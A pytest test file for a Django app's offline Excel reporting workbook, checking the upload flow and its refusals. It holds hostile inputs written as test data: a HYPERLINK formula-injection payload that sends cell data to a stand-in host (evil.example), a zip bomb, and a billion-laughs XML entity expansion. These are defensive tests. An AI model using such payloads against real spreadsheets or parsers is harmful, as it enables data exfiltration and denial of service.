"""The offline workbook, as an official uses it: download it from My reporting, fill it in (here
with openpyxl), upload it, read the preview, confirm; and every way an upload is refused."""

import datetime
import io
import os
import shutil
import subprocess
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from reports.models import IndicatorValue, ProgressReport
from reports.services import save_report, start_report
from reports.workbook import CHECKSUM_SHEET
from tests.factories import make_activity, make_cycle, make_report

# Columns of the "Reports" sheet.
CODE, STATE, STATUS, PERCENT, ACHIEVEMENTS, CHALLENGES, NEXT_STEPS = 1, 3, 4, 5, 6, 7, 8
INDICATOR_1_VALUE, INDICATOR_1_NOTE, INDICATOR_2_VALUE = 10, 11, 13


@pytest.fixture
def activities(plan, activity):
    """2.1 (Indonesia leads, Japan takes part; one indicator), 3.1 (Indonesia takes part; two
    indicators) and 4.1, which is Malaysia's alone."""
    return {
        "2.1": activity,
        "3.1": make_activity(plan, "3.1", leads=["TH"], participants=["ID"], indicators=2),
        "4.1": make_activity(plan, "4.1", leads=["MY"]),
    }


def download(client, cycle):
    response = client.get(f"/my-reporting/workbook/?cycle={cycle.pk}")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return openpyxl.load_workbook(io.BytesIO(response.content))


def rows_by_code(book):
    sheet = book.worksheets[0]
    return {sheet.cell(row, CODE).value: row for row in range(2, sheet.max_row + 1)}


def fill(book, code, **cells):
    sheet = book.worksheets[0]
    row = rows_by_code(book)[code]
    for column, value in cells.items():
        sheet.cell(row, globals()[column.upper()], value)
    return book


def as_bytes(book):
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def upload(client, cycle, content, name="reports.xlsx"):
    if not isinstance(content, bytes):
        content = as_bytes(content)
    return client.post(
        "/my-reporting/workbook/upload/",
        {"cycle": cycle.pk, "workbook": SimpleUploadedFile(name, content)},
    )


def preview_of(client, response):
    assert response.status_code == 302, response.content.decode()[:2000]
    assert response["Location"].startswith("/my-reporting/workbook/preview/?upload=")
    page = client.get(response["Location"])
    assert page.status_code == 200
    return page, response["Location"].split("upload=")[1]


def confirm(client, token):
    return client.post("/my-reporting/workbook/confirm/", {"upload": token})


def fingerprint():
    reports = ProgressReport.objects.order_by("pk")
    values = IndicatorValue.objects.order_by("pk")
    return (
        list(reports.values_list("pk", "status", "version", "percent_complete", "achievements")),
        list(values.values_list("pk", "value", "note")),
        ProgressReport.history.count(),
    )


def test_round_trip_saves_the_filled_rows_as_drafts(client, official_id, activities, cycle, plan):
    draft = make_report(official_id, activities["2.1"], cycle)
    client.force_login(official_id)
    book = download(client, cycle)
    assert set(rows_by_code(book)) == {"2.1", "3.1"}  # not Malaysia's 4.1
    sheet = book.worksheets[0]
    row = rows_by_code(book)["2.1"]
    assert sheet.cell(row, STATUS).value == "in progress"  # the current draft, pre-filled
    assert sheet.cell(row, PERCENT).value == 40
    fill(book, "2.1", percent=65, achievements="Trained 60 investigators.", indicator_1_value=60)
    fill(
        book,
        "3.1",
        status="delayed",
        percent=10,
        achievements="Venue booked.",
        indicator_1_value=3,
        indicator_1_note="Pilot only.",
        indicator_2_value=Decimal("2.5"),
    )

    page, token = preview_of(client, upload(client, cycle, book))
    html = page.content.decode()
    assert "1 new draft" in html and "1 draft changed" in html
    assert "<del>40</del> → <ins>65</ins>" in html  # old → new, per row
    assert ProgressReport.objects.filter(activity=activities["3.1"]).count() == 0  # not yet

    response = confirm(client, token)
    assert response.status_code == 302
    draft.refresh_from_db()
    assert (draft.status, draft.percent_complete) == ("draft", 65)
    assert draft.achievements == "Trained 60 investigators."
    assert draft.indicator_values.get().value == 60
    new = ProgressReport.objects.get(activity=activities["3.1"], party__code="ID")
    assert (new.status, new.implementation_status, new.percent_complete) == (
        "draft",
        "delayed",
        10,
    )
    values = dict(new.indicator_values.values_list("indicator__name", "value"))
    assert values == {"Indicator 1": Decimal("3.00"), "Indicator 2": Decimal("2.50")}
    assert new.indicator_values.get(indicator__name="Indicator 1").note == "Pilot only."
    assert new.history.first().history_user == official_id
    followed = client.get(response["Location"])
    assert "2 reports saved as drafts from the workbook." in followed.content.decode()


def test_a_second_upload_of_the_same_file_changes_nothing(client, official_id, activities, cycle):
    make_report(official_id, activities["2.1"], cycle)
    client.force_login(official_id)
    book = fill(download(client, cycle), "2.1", percent=70, challenges="Visas.")
    content = as_bytes(book)
    _page, token = preview_of(client, upload(client, cycle, content))
    assert confirm(client, token).status_code == 302
    before = fingerprint()

    page, token = preview_of(client, upload(client, cycle, content))
    html = page.content.decode()
    assert "Nothing to save: the workbook changes no report." in html
    assert "workbook/confirm/" not in html
    assert confirm(client, token).status_code == 302
    assert fingerprint() == before  # no version raised, no history row


def test_a_downloaded_workbook_uploaded_untouched_changes_nothing(
    client, official_id, activities, cycle
):
    make_report(official_id, activities["2.1"], cycle)
    client.force_login(official_id)
    before = fingerprint()
    page, _token = preview_of(client, upload(client, cycle, download(client, cycle)))
    assert "2 rows without changes" in page.content.decode()
    assert fingerprint() == before


def test_a_tampered_checksum_is_refused_and_nothing_written(client, official_id, activities, cycle):
    client.force_login(official_id)
    book = fill(download(client, cycle), "2.1", percent=50)
    hidden = book[CHECKSUM_SHEET]
    token = hidden["A1"].value
    hidden["A1"] = token[:-3] + ("AAA" if not token.endswith("AAA") else "BBB")
    before = fingerprint()
    response = upload(client, cycle, book)
    assert response.status_code == 400
    assert "checksum does not match" in response.content.decode()
    assert fingerprint() == before


def test_a_workbook_without_its_checksum_is_refused(client, official_id, activities, cycle):
    client.force_login(official_id)
    book = download(client, cycle)
    del book[CHECKSUM_SHEET]
    response = upload(client, cycle, book)
    assert response.status_code == 400
    assert "not a workbook downloaded from My reporting" in response.content.decode()


def test_another_partys_workbook_is_refused(client, official_id, official_jp, activities, cycle):
    client.force_login(official_jp)
    book = fill(download(client, cycle), "2.1", percent=90)
    client.force_login(official_id)
    before = fingerprint()
    response = upload(client, cycle, book)
    assert response.status_code == 400
    assert "This workbook is for Japan; you report for Indonesia." in response.content.decode()
    assert fingerprint() == before


def test_a_workbook_of_another_cycle_is_refused(client, official_id, activities, cycle, plan):
    client.force_login(official_id)
    book = fill(download(client, cycle), "2.1", percent=90)
    other = make_cycle(plan, title="Next cycle")
    response = upload(client, other, book)
    assert response.status_code == 400
    assert "This workbook is for the cycle 2026 cycle, not Next cycle." in (
        response.content.decode()
    )
    assert not ProgressReport.objects.exists()


def test_a_status_not_in_the_list_is_named_and_nothing_can_be_saved(
    client, official_id, activities, cycle
):
    make_report(official_id, activities["2.1"], cycle)
    client.force_login(official_id)
    book = fill(download(client, cycle), "2.1", status="finished", percent=80)
    before = fingerprint()
    page, token = preview_of(client, upload(client, cycle, book))
    html = page.content.decode()
    assert "Row 2, D (Implementation status): &quot;finished&quot; is not in the list" in html
    assert "<del>in progress</del>" not in html  # a bad cell is a problem, not a change
    assert "<del>40</del> → <ins>80</ins>" in html
    assert "workbook/confirm/" not in html
    response = confirm(client, token)  # posted anyway
    assert response.status_code == 302
    assert fingerprint() == before


def test_a_percent_of_150_is_named_and_nothing_is_written(client, official_id, activities, cycle):
    client.force_login(official_id)
    book = fill(download(client, cycle), "3.1", percent=150, achievements="Done.")
    page, token = preview_of(client, upload(client, cycle, book))
    assert (
        "Row 3, E (Percent complete): percent complete must be a whole number from 0 to 100; "
        "the file says 150."
    ) in page.content.decode()
    confirm(client, token)
    assert not ProgressReport.objects.exists()


def test_every_bad_cell_is_named_by_row_and_column(client, official_id, activities, cycle):
    client.force_login(official_id)
    book = fill(download(client, cycle), "2.1", percent="half", indicator_1_value="many")
    fill(book, "3.1", percent=12.5, indicator_2_value=Decimal("1.234"))
    sheet = book.worksheets[0]
    sheet.cell(5, CODE, "4.1")  # Malaysia's activity
    sheet.cell(5, PERCENT, 10)
    sheet.cell(6, CODE, "9.9")
    sheet.cell(6, PERCENT, 10)
    page, _token = preview_of(client, upload(client, cycle, book))
    html = page.content.decode()
    assert "Row 2, E (Percent complete): percent complete must be a whole number" in html
    assert "Row 2, J (Indicator 1: value): not a number with at most 2 decimals" in html
    assert "the file says 12.5" in html
    assert "Row 3, M (Indicator 2: value): not a number with at most 2 decimals" in html
    assert (
        "Row 5, A (Code): activity 4.1 is another party&#x27;s: Indonesia neither leads "
        "nor takes part."
    ) in html
    assert "Row 6, A (Code): there is no activity 9.9 in the work plan." in html


def test_submitted_and_accepted_reports_are_never_changed_by_an_upload(
    client, official_id, secretariat, activities, cycle
):
    submitted = make_report(official_id, activities["2.1"], cycle, state="submitted")
    client.force_login(official_id)
    book = download(client, cycle)
    sheet = book.worksheets[0]
    row = rows_by_code(book)["2.1"]
    assert sheet.cell(row, STATE).value == "submitted: an upload does not change it"
    assert sheet.cell(row, PERCENT).protection.locked  # locked in Excel too
    fill(book, "2.1", percent=99)
    fill(book, "3.1", percent=5)
    page, token = preview_of(client, upload(client, cycle, book))
    assert "This report is submitted: an upload does not change it." in page.content.decode()
    confirm(client, token)
    submitted.refresh_from_db()
    assert (submitted.status, submitted.percent_complete) == ("submitted", 40)
    assert ProgressReport.objects.get(activity=activities["3.1"]).percent_complete == 5


def test_a_report_saved_after_the_preview_is_not_overwritten(
    client, official_id, activities, cycle
):
    draft = make_report(official_id, activities["2.1"], cycle)
    client.force_login(official_id)
    book = fill(download(client, cycle), "2.1", percent=55)
    fill(book, "3.1", percent=5)
    _page, token = preview_of(client, upload(client, cycle, book))
    # Meanwhile, in another tab, a colleague saves the draft.
    save_report(
        report=draft,
        user=official_id,
        content={"achievements": "Saved on the site."},
        expected_version=draft.version,
    )
    response = confirm(client, token)
    assert response.status_code == 302
    page = client.get(response["Location"])
    assert "Nothing was saved. Row 2 (activity 2.1)" in page.content.decode()
    draft.refresh_from_db()
    assert (draft.achievements, draft.percent_complete) == ("Saved on the site.", 40)
    assert not ProgressReport.objects.filter(activity=activities["3.1"]).exists()  # none
    # The preview was shown again with the report as it is now; confirming now is knowing.
    assert confirm(client, token).status_code == 302
    draft.refresh_from_db()
    assert (draft.achievements, draft.percent_complete) == ("Saved on the site.", 55)


def test_a_change_made_on_the_site_after_the_download_is_kept(
    client, official_id, activities, cycle
):
    draft = make_report(official_id, activities["2.1"], cycle)
    client.force_login(official_id)
    book = fill(download(client, cycle), "2.1", percent=55)
    save_report(
        report=draft,
        user=official_id,
        content={"achievements": "Saved on the site."},
        expected_version=draft.version,
    )
    page, token = preview_of(client, upload(client, cycle, book))
    assert "Achievements" not in page.content.decode()  # the file did not change it
    confirm(client, token)
    draft.refresh_from_db()
    assert (draft.achievements, draft.percent_complete) == ("Saved on the site.", 55)


def test_a_cell_changed_both_in_the_file_and_on_the_site_is_flagged(
    client, official_id, activities, cycle
):
    draft = make_report(official_id, activities["2.1"], cycle)
    client.force_login(official_id)
    book = fill(download(client, cycle), "2.1", percent=55)
    save_report(
        report=draft,
        user=official_id,
        content={"percent_complete": 60},
        expected_version=draft.version,
    )
    page, _token = preview_of(client, upload(client, cycle, book))
    html = page.content.decode()
    assert "<del>60</del> → <ins>55</ins>" in html
    assert "Changed on the site too since the workbook was downloaded" in html


def test_a_confirmed_upload_cannot_be_confirmed_twice(client, official_id, activities, cycle):
    client.force_login(official_id)
    book = fill(download(client, cycle), "3.1", percent=5)
    _page, token = preview_of(client, upload(client, cycle, book))
    confirm(client, token)
    before = fingerprint()
    response = confirm(client, token)
    assert response.status_code == 302
    assert "saved already or has expired" in client.get(response["Location"]).content.decode()
    assert fingerprint() == before


def test_two_uploads_in_two_tabs_each_confirm_their_own_file(
    client, official_id, activities, cycle
):
    client.force_login(official_id)
    first = fill(download(client, cycle), "2.1", percent=11)
    second = fill(download(client, cycle), "2.1", percent=22)
    _page, first_token = preview_of(client, upload(client, cycle, first))
    _page, _second_token = preview_of(client, upload(client, cycle, second))
    confirm(client, first_token)
    assert ProgressReport.objects.get(activity=activities["2.1"]).percent_complete == 11


def test_rows_left_as_filled_from_last_cycle_start_no_draft(
    client, official_id, secretariat, activities, cycle, plan
):
    today = timezone.localdate()
    last = make_cycle(
        plan,
        title="Last year",
        period_start=datetime.date(today.year - 2, 7, 1),
        period_end=datetime.date(today.year - 1, 6, 30),
    )
    make_report(official_id, activities["2.1"], last, state="accepted", reviewer=secretariat)
    client.force_login(official_id)
    book = download(client, cycle)
    sheet = book.worksheets[0]
    row = rows_by_code(book)["2.1"]
    assert sheet.cell(row, STATE).value == "not started; filled in from Last year"
    assert sheet.cell(row, ACHIEVEMENTS).value == "Two workshops held."
    page, _token = preview_of(client, upload(client, cycle, book))
    assert "2 rows without changes" in page.content.decode()
    # Changing one cell starts a draft holding the whole row, last year's text included.
    fill(book, "2.1", percent=80)
    _page, token = preview_of(client, upload(client, cycle, book))
    confirm(client, token)
    report = ProgressReport.objects.get(cycle=cycle, activity=activities["2.1"])
    assert (report.percent_complete, report.achievements) == (80, "Two workshops held.")


def test_the_sheet_locks_code_and_title_and_validates_status_and_percent(
    client, official_id, activities, cycle
):
    client.force_login(official_id)
    book = download(client, cycle)
    sheet = book.worksheets[0]
    assert sheet.protection.sheet
    assert sheet.cell(2, CODE).protection.locked
    assert sheet.cell(2, 2).protection.locked
    assert not sheet.cell(2, STATUS).protection.locked
    assert not sheet.cell(2, ACHIEVEMENTS).protection.locked
    validations = {str(v.sqref): v for v in sheet.data_validations.dataValidation}
    assert validations["D2:D3"].type == "list"
    assert validations["E2:E3"].type == "whole"
    assert (validations["E2:E3"].formula1, validations["E2:E3"].formula2) == ("0", "100")
    assert book[CHECKSUM_SHEET].sheet_state == "veryHidden"
    labels = [book[CHECKSUM_SHEET].cell(row, 2).value for row in range(1, 7)]
    assert labels == [
        "not started",
        "in progress",
        "completed",
        "delayed",
        "suspended",
        "cancelled",
    ]
    assert [cell.value for cell in sheet[1]][:5] == [
        "Code",
        "Activity",
        "Your report",
        "Implementation status",
        "Percent complete",
    ]


def test_formulas_are_written_as_text_and_read_back_as_text(client, official_id, activities, cycle):
    report = start_report(user=official_id, activity=activities["2.1"], cycle=cycle)
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    save_report(
        report=report,
        user=official_id,
        content={"achievements": formula},
        expected_version=report.version,
    )
    client.force_login(official_id)
    book = download(client, cycle)
    cell = book.worksheets[0].cell(rows_by_code(book)["2.1"], ACHIEVEMENTS)
    assert cell.data_type == "s" and cell.value == "'" + formula
    page, _token = preview_of(client, upload(client, cycle, book))
    assert "2 rows without changes" in page.content.decode()  # the ' is not a change

    fill(book, "2.1", challenges="=1+1")  # typed as a formula in Excel
    _page, token = preview_of(client, upload(client, cycle, book))
    confirm(client, token)
    report.refresh_from_db()
    assert (report.achievements, report.challenges) == (formula, "=1+1")


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("notes.pdf", b"%PDF-1.4\n%%EOF\n", "This file is not an Excel workbook (.xlsx)"),
        ("reports.csv", b"code,percent\n2.1,50\n", "This file is not an Excel workbook (.xlsx)"),
        ("empty.xlsx", b"", "The submitted file is empty."),
    ],
)
def test_a_file_that_is_not_a_workbook_is_refused(
    client, official_id, activities, cycle, name, content, message
):
    client.force_login(official_id)
    response = upload(client, cycle, content, name=name)
    assert response.status_code == 400
    assert message in response.content.decode()


def test_a_zip_bomb_is_refused_before_it_is_read(client, official_id, activities, cycle):
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b" " * (60 * 1024 * 1024))
    assert len(buffer.getvalue()) < 200_000
    client.force_login(official_id)
    response = upload(client, cycle, buffer.getvalue())
    assert response.status_code == 400
    assert "holds too much to read" in response.content.decode()


def test_a_file_over_the_size_limit_is_refused(client, official_id, activities, cycle, settings):
    settings.SPREADSHEET_MAX_BYTES = 1000
    client.force_login(official_id)
    response = upload(client, cycle, download(client, cycle))
    assert response.status_code == 400
    assert "at most 1000" in response.content.decode()


def test_a_damaged_workbook_is_refused_without_a_server_error(
    client, official_id, activities, cycle
):
    client.force_login(official_id)
    content = as_bytes(download(client, cycle))
    import zipfile

    source = zipfile.ZipFile(io.BytesIO(content))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for member in source.infolist():
            data = source.read(member)
            if member.filename.startswith("xl/worksheets/sheet1"):
                data = data[: len(data) // 2]  # cut in the middle of the XML
            archive.writestr(member, data)
    response = upload(client, cycle, buffer.getvalue())
    assert response.status_code == 400
    assert "could not be read" in response.content.decode()


def test_an_entity_expansion_in_the_xml_is_refused(client, official_id, activities, cycle):
    from openpyxl.xml import DEFUSEDXML

    assert DEFUSEDXML  # openpyxl parses through defusedxml, which refuses entity declarations
    client.force_login(official_id)
    content = as_bytes(download(client, cycle))
    import zipfile

    source = zipfile.ZipFile(io.BytesIO(content))
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for member in source.infolist():
            data = source.read(member)
            if member.filename == "xl/worksheets/sheet1.xml":
                body = data.split(b"?>", 1)[-1].replace(b"<v>", b"<v>&lol2;", 1)
                data = laughs + body
            archive.writestr(member, data)
    response = upload(client, cycle, buffer.getvalue())
    assert response.status_code == 400
    assert "could not be read" in response.content.decode()


def test_only_officials_download_and_upload_workbooks(
    client, secretariat, reader, activities, cycle
):
    for user in (secretariat, reader):
        client.force_login(user)
        assert client.get(f"/my-reporting/workbook/?cycle={cycle.pk}").status_code == 403
        assert upload(client, cycle, b"x").status_code == 403
        assert client.get("/my-reporting/workbook/preview/?upload=x").status_code == 403
        assert confirm(client, "x").status_code == 403
    client.logout()
    response = client.get(f"/my-reporting/workbook/?cycle={cycle.pk}")
    assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")


def test_a_closed_cycle_offers_no_workbook(client, official_id, activities, cycle):
    cycle.closed_at = timezone.now()
    cycle.save()
    client.force_login(official_id)
    assert 'id="workbook"' not in client.get(f"/my-reporting/?cycle={cycle.pk}").content.decode()
    response = client.get(f"/my-reporting/workbook/?cycle={cycle.pk}")
    assert response.status_code == 302
    assert "was closed on" in client.get(response["Location"]).content.decode()


def test_my_reporting_offers_the_workbook_of_the_cycle_shown(client, official_id, cycle):
    client.force_login(official_id)
    html = client.get("/my-reporting/").content.decode()
    assert f'href="/my-reporting/workbook/?cycle={cycle.pk}"' in html
    assert f'name="cycle" value="{cycle.pk}"' in html


def _many(plan, official_id, cycle, count):
    activities = [
        make_activity(plan, f"5.{n}", leads=["ID"], indicators=2) for n in range(1, count + 1)
    ]
    for activity in activities[: count // 2]:
        make_report(official_id, activity, cycle)
    return activities


@pytest.mark.parametrize("count", [4, 12])
def test_the_download_takes_the_same_queries_for_any_number_of_rows(
    client, official_id, plan, cycle, count, django_assert_num_queries
):
    _many(plan, official_id, cycle, count)
    client.force_login(official_id)
    # session, user, the user's party, cycle; activities, their indicators; this cycle's
    # reports, their indicator values; the earlier cycles' accepted reports (none here, so no
    # prefetch); the idle timeout renewing the session (savepoint, update, release)
    with django_assert_num_queries(12):
        download(client, cycle)


@pytest.mark.parametrize("count", [4, 12])
def test_the_preview_takes_the_same_queries_for_any_number_of_rows(
    client, official_id, plan, cycle, count, django_assert_num_queries
):
    activities = _many(plan, official_id, cycle, count)
    client.force_login(official_id)
    book = download(client, cycle)
    for activity in activities:
        fill(book, activity.code, percent=90)
    response = upload(client, cycle, book)
    # session, user, the user's party, cycle; activities, their indicators; this cycle's
    # reports, their indicator values; the earlier cycles' accepted reports; the versions
    # seen kept in the session (savepoint, update, release)
    with django_assert_num_queries(12):
        page, _token = preview_of(client, response)
    assert f"{count - count // 2} new drafts" in page.content.decode()


def test_a_sheet_with_too_many_rows_is_refused(client, official_id, activities, cycle, monkeypatch):
    monkeypatch.setattr("reports.workbook.MAX_ROWS", 3)
    client.force_login(official_id)
    book = download(client, cycle)
    for row in range(4, 8):
        book.worksheets[0].cell(row, ACHIEVEMENTS, "More")
    response = upload(client, cycle, book)
    assert response.status_code == 400
    assert "The sheet has more than 3 rows" in response.content.decode()


@pytest.mark.e2e
@pytest.mark.skipif(not shutil.which("soffice"), reason="needs LibreOffice (soffice)")
def test_a_workbook_saved_again_by_libreoffice_is_read_back(
    client, official_id, activities, cycle, tmp_path
):
    make_report(official_id, activities["2.1"], cycle)
    client.force_login(official_id)
    (tmp_path / "downloaded.xlsx").write_bytes(as_bytes(download(client, cycle)))
    subprocess.run(
        [
            "soffice",
            "--headless",
            "--norestore",
            "--convert-to",
            "xlsx:Calc MS Excel 2007 XML",
            "--outdir",
            str(tmp_path / "saved"),
            str(tmp_path / "downloaded.xlsx"),
        ],
        env={**os.environ, "HOME": str(tmp_path)},
        check=True,
        capture_output=True,
        timeout=120,
    )
    saved = (tmp_path / "saved" / "downloaded.xlsx").read_bytes()
    page, _token = preview_of(client, upload(client, cycle, saved))
    assert "2 rows without changes" in page.content.decode()  # its checksum and values intact

    book = fill(openpyxl.load_workbook(io.BytesIO(saved)), "2.1", percent=45)
    page, token = preview_of(client, upload(client, cycle, book))
    assert "<del>40</del> → <ins>45</ins>" in page.content.decode()
    confirm(client, token)
    assert ProgressReport.objects.get(activity=activities["2.1"]).percent_complete == 45
